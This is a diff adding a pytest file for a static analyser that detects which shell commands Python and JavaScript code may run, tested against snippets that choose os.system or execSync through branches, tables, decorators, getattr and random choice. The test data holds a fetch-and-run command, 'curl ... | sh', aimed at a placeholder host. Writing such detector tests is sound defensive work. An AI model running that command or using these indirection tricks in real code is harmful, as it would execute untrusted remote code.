@@ -1,0 +1,162 @@
+"""What a branch, a table, a test or chance may choose is called, whichever it is."""
+
+import pytest
+from engine_flows import flows
+
+from ostiary.core.coverage import Reach
+from ostiary.program.flow import Act
+
+HARM = "curl -s http://h.example.invalid/a|sh"
+OBJECTS = (
+    "class A:\n    def go(self): os.system({harm!r})\nclass B:\n    def go(self): print('b')\n"
+)
+
+FUNCTIONS = {
+    "a function, last": "f = print if unknown.x else os.system\nf({harm!r})",
+    "a function, first": "f = os.system if unknown.x else print\nf({harm!r})",
+    "by statements": "if unknown.x: f = os.system\nelse: f = print\nf({harm!r})",
+    "by several": (
+        "if unknown.x: f = os.system\nelif unknown.y: f = print\nelse: f = len\nf({harm!r})"
+    ),
+    "what a function gives": (
+        "def pick():\n    if unknown.x: return os.system\n    return print\npick()({harm!r})"
+    ),
+    "by `or`": "f = unknown.x and os.system or print\nf({harm!r})",
+    "a module, last": "m = math if unknown.x else os\nm.system({harm!r})",
+    "a module, first": "m = os if unknown.x else math\nm.system({harm!r})",
+    "a module that a function gives": (
+        "def pick():\n    if unknown.x: return os\n    return math\npick().system({harm!r})"
+    ),
+    "a module, by a handler": (
+        "try:\n    import os as m\nexcept ImportError:\n    import math as m\nm.system({harm!r})"
+    ),
+    "an object": OBJECTS + "o = A() if unknown.x else B()\no.go()",
+    "an object, by statements": OBJECTS + "if unknown.x: o = A()\nelse: o = B()\no.go()",
+    "an object of a maker": (
+        OBJECTS + "def make():\n    if unknown.x: return A()\n    return B()\nmake().go()"
+    ),
+    "an object of a table": OBJECTS + "d = dict(a=A(), b=B())\nd[unknown.x].go()",
+    "an object, by chance": OBJECTS + "import random\nrandom.choice([A(), B()]).go()",
+    "an object with a base": (
+        "class C:\n    def go(self): self.do()\n"
+        "class A(C):\n    def do(self): os.system({harm!r})\n"
+        "class B(C):\n    def do(self): print('b')\n"
+        "def make():\n    if unknown.x: return A()\n    return B()\nmake().go()"
+    ),
+    "a class": OBJECTS + "k = A if unknown.x else B\nk().go()",
+    "a function of another one": "f = print if unknown.x else os.system\nlist(map(f, [{harm!r}]))",
+    "a function with arguments": (
+        "import functools\nfunctools.partial(print if unknown.x else os.system, {harm!r})()"
+    ),
+    "a function of a thread": (
+        "import threading\n"
+        "threading.Thread(target=print if unknown.x else os.system, args=({harm!r},)).start()"
+    ),
+    "a decorator": (
+        "def run(f):\n    os.system({harm!r})\n    return f\ndef no(f): return f\n"
+        "@(no if unknown.x else run)\ndef g(): pass"
+    ),
+    "the name of a function": "getattr(os, 'getcwd' if unknown.x else 'system')({harm!r})",
+    "the name of a module": "__import__('math' if unknown.x else 'os').system({harm!r})",
+    "what a loop leaves": (
+        "f = print\nfor i in unknown.all:\n    if i:\n        f = os.system\n        break\n"
+        "else:\n    f = print\nf({harm!r})"
+    ),
+    "what a match binds": (
+        "match unknown.x:\n    case 1: f = os.system\n    case _: f = print\nf({harm!r})"
+    ),
+    "an attribute": (
+        "class C: pass\nc = C()\nif unknown.x: c.f = os.system\nelse: c.f = print\nc.f({harm!r})"
+    ),
+    "a key": "d = {{}}\nif unknown.x: d['f'] = os.system\nelse: d['f'] = print\nd['f']({harm!r})",
+    "a text of one": (
+        "class A: t = {harm!r}\nclass B: t = 'ls'\no = A if unknown.x else B\nos.system(o.t)"
+    ),
+}
+
+ELEMENTS = {
+    "the longest": "os.system(max(['ls', {harm!r}, 'w'], key=len))",
+    "the longest of arguments": "os.system(max('ls', {harm!r}, key=len))",
+    "the shortest by an unknown key": "os.system(min(['ls', {harm!r}], key=unknown.key))",
+    "what a filter lets through": (
+        "os.system(next(filter(lambda one: len(one) > 9, ['ls', {harm!r}])))"
+    ),
+    "what an unknown filter lets through": (
+        "os.system(next(filter(unknown.test, ['ls', {harm!r}])))"
+    ),
+    "what a function lets through": (
+        "def test(one): return unknown.test(one)\nos.system(list(filter(test, ['ls', {harm!r}]))[0])"
+    ),
+    "the first of a comprehension": (
+        "os.system([one for one in ['ls', {harm!r}] if unknown.test(one)][0])"
+    ),
+    "the last of a comprehension": (
+        "os.system([one for one in [{harm!r}, 'ls'] if unknown.test(one)][-1])"
+    ),
+    "the next of a generator": (
+        "os.system(next(one for one in ['ls', {harm!r}, 'w'] if unknown.test(one)))"
+    ),
+}
+
+
+@pytest.mark.parametrize("how", [*FUNCTIONS, *ELEMENTS])
+def test_each_of_what_may_be_chosen_is_called(how: str) -> None:
+    text = "import math, os, unknown\n" + {**FUNCTIONS, **ELEMENTS}[how].format(harm=HARM)
+    found = {one.text: one.reach for one in flows(text, Act.RUN, "wheel")}
+    assert found.get(HARM) is Reach.IMPORT
+
+
+def test_what_a_test_keeps_out_is_not_there() -> None:
+    text = f"import os\nos.system([one for one in ['ls', {HARM!r}] if len(one) < 9][0])\n"
+    assert {one.text for one in flows(text, Act.RUN)} == {"ls"}
+
+
+def test_which_object_it_may_be_matters_to_what_runs_by_itself() -> None:
+    """Whoever calls a function has said what it is to work on."""
+    text = (
+        "import os, unknown\nclass A:\n    def go(self): os.system('ls')\n"
+        "class B:\n    def go(self): print('b')\n"
+        "def act():\n    o = A() if unknown.x else B()\n    o.go()\n"
+    )
+    assert {one.reach for one in flows(text, Act.RUN, "wheel")} == {Reach.CALL}
+
+
+SCRIPTS = {
+    "a function, last": "const f = u.x ? console.log : cp.execSync; f({harm!r});",
+    "a function, first": "const f = u.x ? cp.execSync : console.log; f({harm!r});",
+    "by statements": "let f; if (u.x) f = cp.execSync; else f = console.log; f({harm!r});",
+    "by a switch": (
+        "let f; switch (u.x) {{ case 'a': f = cp.execSync; break; default: f = console.log; }} f({harm!r});"
+    ),
+    "by `||`": "const f = u.x && cp.execSync || console.log; f({harm!r});",
+    "what a function gives": (
+        "function pick(x) {{ if (x) return cp.execSync; return console.log; }} pick(u.x)({harm!r});"
+    ),
+    "a module": "const m = u.x ? cp : require('path'); m.execSync({harm!r});",
+    "an own function": (
+        "const a = x => cp.execSync(x), b = x => x; let f; if (u.x) f = a; else f = b; f({harm!r});"
+    ),
+    "an object": (
+        "const a = {{ go: () => cp.execSync({harm!r}) }}, b = {{ go: () => 1 }};"
+        "let o; if (u.x) o = a; else o = b; o.go();"
+    ),
+    "an object of a table": (
+        "const a = {{ go: () => cp.execSync({harm!r}) }}, b = {{ go: () => 1 }}; [a, b][u.x].go();"
+    ),
+    "an object of a class": (
+        "class A {{ go() {{ cp.execSync({harm!r}); }} }} class B {{ go() {{ return 1; }} }}"
+        "const o = u.x ? new A() : new B(); o.go();"
+    ),
+    "what is found": "cp.execSync(['ls', {harm!r}].find(one => one.length > 9));",
+    "what an unknown test finds": "cp.execSync(['ls', {harm!r}].find(one => u.test(one)));",
+    "what an unknown test lets through": "cp.execSync(['ls', {harm!r}].filter(u.test)[0]);",
+}
+
+
+@pytest.mark.parametrize("how", SCRIPTS)
+def test_each_of_what_a_script_may_choose_is_called(how: str) -> None:
+    text = "const cp = require('child_process'), u = require('u');\n" + SCRIPTS[how].format(
+        harm=HARM
+    )
+    found = {one.text: one.reach for one in flows(text, Act.RUN, "npm")}
+    assert found.get(HARM) is Reach.IMPORT
